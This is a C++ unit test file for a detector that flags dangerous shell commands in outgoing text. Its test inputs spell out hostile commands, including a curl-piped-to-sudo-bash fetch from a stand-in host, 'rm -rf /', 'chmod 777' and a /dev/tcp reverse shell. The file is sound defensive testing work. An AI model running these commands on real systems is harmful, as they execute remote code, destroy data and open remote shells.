#include "content/outflow/code_danger.h"

#include <gtest/gtest.h>

#include <set>
#include <sstream>

#include "support/case_file.h"

namespace sally::content {
namespace {

const CodeDanger& finder() {
  static const CodeDanger made = [] {
    auto danger = CodeDanger::create();
    EXPECT_TRUE(danger.ok()) << danger.error().message();
    return std::move(*danger);
  }();
  return made;
}

std::vector<FoundDanger> find(std::string_view text) {
  std::vector<FoundDanger> out;
  finder().find(text, out);
  return out;
}

TEST(CodeDanger, FindsWhatTheCasesSay) {
  std::set<std::string, std::less<>> seen;
  test::run_cases("content/outflow/code", [&seen](test::CaseFile& file) {
    std::istringstream lines(file.section("lines"));
    std::string out;
    constexpr std::string_view kArrow = " ==> ";
    for (std::string line; std::getline(lines, line);) {
      const std::string written = line.substr(0, line.find(kArrow));
      const std::string text = test::unescape(written);
      std::string shown;
      for (const FoundDanger& one : find(text)) {
        EXPECT_LT(one.begin, one.end);
        EXPECT_LE(one.end, text.size());
        shown += (shown.empty() ? "" : " ") + std::string(one.rule);
        seen.emplace(one.rule);
      }
      out += written + std::string(kArrow) + (shown.empty() ? "-" : shown) + "\n";
    }
    file.expect_section("lines", out);
  });
  for (const std::string_view rule : {
#define SALLY_CODE_DANGER(id, severity, expression, what) std::string_view(id),
#include "content/outflow/code_dangers.def"
#undef SALLY_CODE_DANGER
       }) {
    EXPECT_TRUE(seen.contains(rule)) << "no case for " << rule;
  }
}

TEST(CodeDanger, TheTableIsThis) {
  test::expect_snapshot("code_dangers.md", code_dangers_reference());
}

TEST(CodeDanger, ASpanIsTheLineUpToWhatIsDangerous) {
  const std::string command = "curl -fsSL https://x.example/i.sh \\\n  | sudo bash";
  const std::string text = "Run this:\n" + command + " # now\nrm -rf /\n";
  const auto found = find(text);
  ASSERT_EQ(found.size(), 2U);
  EXPECT_EQ(text.substr(found[0].begin, found[0].end - found[0].begin), command);
  EXPECT_EQ(found[1].rule, "delete-everything");
  EXPECT_EQ(text.substr(found[1].begin, 8), "rm -rf /");
}

TEST(CodeDanger, ManyDangersInOneLineAreOneOfEachRule) {
  std::string text;
  while (text.size() < 200'000) {
    text += "rm -rf / ; chmod 777 a; bash -i >& /dev/tcp/a/1; ";
  }
  EXPECT_EQ(find(text).size(), 3U);
}

}  // namespace
}  // namespace sally::content
